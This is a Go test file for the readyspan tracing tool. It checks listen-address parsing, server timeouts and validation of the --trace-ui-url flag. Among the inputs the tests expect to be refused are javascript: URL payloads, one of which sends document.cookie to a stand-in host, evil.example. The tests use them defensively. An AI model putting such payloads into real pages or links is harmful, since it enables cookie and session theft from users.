package main

import (
	"context"
	"io"
	"strings"
	"testing"

	"github.com/spf13/pflag"

	"github.com/readyspan/readyspan/daemon"
	"github.com/readyspan/readyspan/exporters/otlp"
	"github.com/readyspan/readyspan/web"
)

// replay --listen binds the loopback address unless told otherwise, and answers only to its
// names.
func TestReplayListen(t *testing.T) {
	for in, want := range map[string]string{":8081": "127.0.0.1:8081", "0.0.0.0:8081": "0.0.0.0:8081", "[::]:8081": "[::]:8081",
		"localhost:0": "localhost:0", "192.168.1.5:8081": "192.168.1.5:8081"} {
		if got, err := replayListenAddr(in); err != nil || got != want {
			t.Errorf("--listen %s: %s %v, want %s", in, got, err, want)
		}
	}
	if _, err := replayListenAddr("8081"); err == nil {
		t.Error("--listen 8081 accepted")
	}
	ring := web.NewRing(web.RingConfig{})
	srv, err := replayServer(ring, "127.0.0.1:8081", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	if srv.IdleTimeout <= 0 || srv.ReadHeaderTimeout <= 0 {
		t.Errorf("timeouts: idle %v, read header %v", srv.IdleTimeout, srv.ReadHeaderTimeout)
	}
	if _, err := replayServer(ring, "127.0.0.1:8081", "javascript:alert(1)//{trace_id}", nil); err == nil {
		t.Error("a javascript: --trace-ui-url accepted")
	}
	if _, err := replayServer(ring, "127.0.0.1:8081", "", []string{"http://x/"}); err == nil {
		t.Error("--ui-allowed-hosts http://x/ accepted")
	}
}

// --trace-ui-url is an http(s) URL with {trace_id}, for run as for replay.
func TestTraceUIURLFlag(t *testing.T) {
	for _, tc := range []struct {
		url string
		ok  bool
	}{
		{"http://localhost:16686/trace/{trace_id}", true},
		{"javascript:fetch('//evil.example/'+document.cookie)//{trace_id}", false},
		{"http://localhost:16686/trace/", false},
	} {
		var uf uiFlags
		fs := pflag.NewFlagSet("run", pflag.ContinueOnError)
		uf.register(fs)
		if err := fs.Parse([]string{"--trace-ui-url", tc.url}); err != nil {
			t.Fatal(err)
		}
		o := daemon.Options{MetricsAddr: ":8080", OTLP: otlp.Config{QueueTraces: 1, QueueBytes: 1}, UI: uf.options()}
		if err := o.Validate(); (err == nil) != tc.ok {
			t.Errorf("run --trace-ui-url %q: %v, want ok %v", tc.url, err, tc.ok)
		}
	}
}

// explain and replay refuse a --trace-ui-url that is not an http(s) URL with {trace_id} before
// any work, and the HTML report links each trace with it.
func TestReportTraceUIURL(t *testing.T) {
	ctx := context.Background()
	for name, run := range map[string]func(context.Context, []string, io.Writer, io.Writer) error{"explain": runExplain, "replay": runReplay} {
		for _, bad := range []string{"javascript:alert(document.domain)//{trace_id}", "http://jaeger:16686/search"} {
			err := run(ctx, []string{"pod/web", "-o", "html", "--trace-ui-url", bad}, io.Discard, io.Discard)
			if err == nil || !strings.Contains(err.Error(), "--trace-ui-url") {
				t.Errorf("%s --trace-ui-url %q: %v", name, bad, err)
			}
		}
	}
	var out strings.Builder
	err := runReplay(ctx, []string{"../../tracer/testdata/real-node/run8-slow-pull-watch", "-o", "html", "--trace-ui-url", "https://jaeger.example/trace/{trace_id}"}, &out, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `"traceUI":"https://jaeger.example/trace/{trace_id}"`) {
		t.Error("replay -o html does not link to the trace UI")
	}
}
